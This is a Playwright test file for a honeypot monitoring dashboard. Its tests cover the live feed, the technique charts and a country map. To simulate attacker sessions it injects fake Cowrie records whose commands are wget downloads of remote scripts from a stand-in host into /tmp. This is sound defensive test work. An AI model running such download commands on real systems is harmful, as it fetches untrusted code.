import { expect, test } from '@playwright/test';
import { expectAccessible } from './axe';
import { push, pushKey } from './cowrie';
import { logIn, watch } from './server';

test('what is ingested is in the live feed within two seconds, and a pause holds it back', async ({
  page,
  request,
}) => {
  test.setTimeout(120_000);
  const seen = watch(page);
  const token = await logIn(page);
  const key = await pushKey(request, token);
  await page.goto('/');
  await expect(page.getByRole('status').filter({ hasText: 'Live' })).toBeVisible({ timeout: 45_000 });

  const first = `live${Date.now().toString(16)}`;
  await push(request, key, {
    session: first,
    address: '198.51.100.51',
    commands: ['wget http://203.0.113.5/x.sh -O /tmp/x'],
  });
  const feed = page.getByRole('list', { name: 'What happened, the latest first' });
  const line = feed
    .getByRole('listitem')
    .filter({ hasText: `e2e-1:${first}` })
    .filter({ hasText: 'T1105' });
  await expect(line.first()).toBeVisible({ timeout: 2_000 });

  await page.getByRole('button', { name: 'Pause' }).click();
  await expect(page).toHaveURL(/live=false/);
  await expect(page.getByRole('status').filter({ hasText: 'Paused' })).toBeVisible();
  const second = `held${Date.now().toString(16)}`;
  await push(request, key, {
    session: second,
    address: '198.51.100.52',
    commands: ['wget http://203.0.113.5/y.sh -O /tmp/y'],
  });
  await expect(feed).not.toContainText(second);
  await page.getByRole('button', { name: 'Go on' }).click();
  await expect(feed.getByRole('listitem').filter({ hasText: second }).first()).toBeVisible();
  expect(seen).toEqual([]);
});

test('an hour of the histogram leads to its lines in the log', async ({ page }) => {
  await logIn(page);
  await page.goto('/');
  await page
    .getByRole('button', { name: /^\d\d:\d\d to \d\d:\d\d: / })
    .last()
    .click();
  await expect(page).toHaveURL(/\/live-logs\?.*time=/);
});

test('what came since the last visit is counted', async ({ page }) => {
  await logIn(page);
  await page.addInitScript(() => {
    localStorage.setItem('decnet.visit', JSON.stringify({ since: null, at: '2026-01-01T00:00:00.000Z' }));
  });
  await page.goto('/');
  const news = page.getByRole('region', { name: 'Since your last visit' });
  await expect(news).toContainText(/\d+ new attackers/);
  await expect(news).not.toContainText('…');
});

test('techniques over time are bars and a table, of the span that the address says', async ({ page, request }) => {
  const seen = watch(page);
  const token = await logIn(page);
  const key = await pushKey(request, token);
  await push(request, key, {
    session: `time${Date.now().toString(16)}`,
    address: '198.51.100.53',
    commands: ['wget http://203.0.113.5/z.sh -O /tmp/z'],
  });
  await page.goto('/');
  const section = page.getByRole('region', { name: 'Techniques over time', exact: true });
  const legend = section.getByRole('list', { name: 'Techniques in the bars' });
  await expect(legend.getByRole('link', { name: /^T1105/ })).toBeVisible({ timeout: 45_000 });
  await section.getByLabel('Span of time').selectOption('day');
  await expect(page).toHaveURL(/span=day/);
  await expect(section.getByRole('img', { name: /^Tags by technique in 24 intervals/ })).toBeVisible();
  await expectAccessible(page);

  await section.getByRole('button', { name: 'Show as a table' }).click();
  const table = section.getByRole('table');
  const column = (await table.getByRole('columnheader').allInnerTexts()).indexOf('T1105');
  expect(column).toBeGreaterThan(0);
  await expect(
    table
      .getByRole('row')
      .last()
      .getByRole('cell')
      .nth(column - 1),
  ).not.toHaveText('0');
  await expectAccessible(page);
  await page.goto('/?until=2020-01-01T00:00:00Z');
  await expect(section.getByText('No techniques in this time')).toBeVisible();
  expect(seen).toEqual([]);
});

test('countries are marked on a map that is part of the page, and numbered in a list', async ({ page }) => {
  const seen = watch(page);
  await logIn(page);
  await page.goto('/');
  await expect(page.getByRole('region', { name: 'Attackers by country' })).toContainText('No country is known');

  // Whose addresses are documentation's lies in no country.
  await page.route('**/api/v1/attackers?*', async (route) => {
    const answer = await route.fetch();
    const rows = (await answer.json()) as { data: { country_code: string | null }[] };
    const codes = ['DE', 'DE', 'BR', 'SG', null];
    rows.data.forEach((row, at) => {
      row.country_code = codes[at % codes.length] ?? null;
    });
    await route.fulfill({ response: answer, json: rows });
  });
  await page.reload();
  const section = page.getByRole('region', { name: 'Attackers by country' });
  await expect(section.getByRole('img', { name: /^Map of the world with 3 countries marked/ })).toBeVisible();
  await expect(section.locator('path', { hasText: /^Germany: \d+$/ })).toHaveCount(1);
  await expect(section.getByRole('listitem').first()).toContainText('Germany');
  await expectAccessible(page);
  await section.getByRole('link', { name: 'Singapore' }).click();
  await expect(page).toHaveURL(/\/attackers\?country=SG/);
  // The list may still be asked for when the page closes.
  await page.unrouteAll({ behavior: 'ignoreErrors' });
  expect(seen).toEqual([]);
});
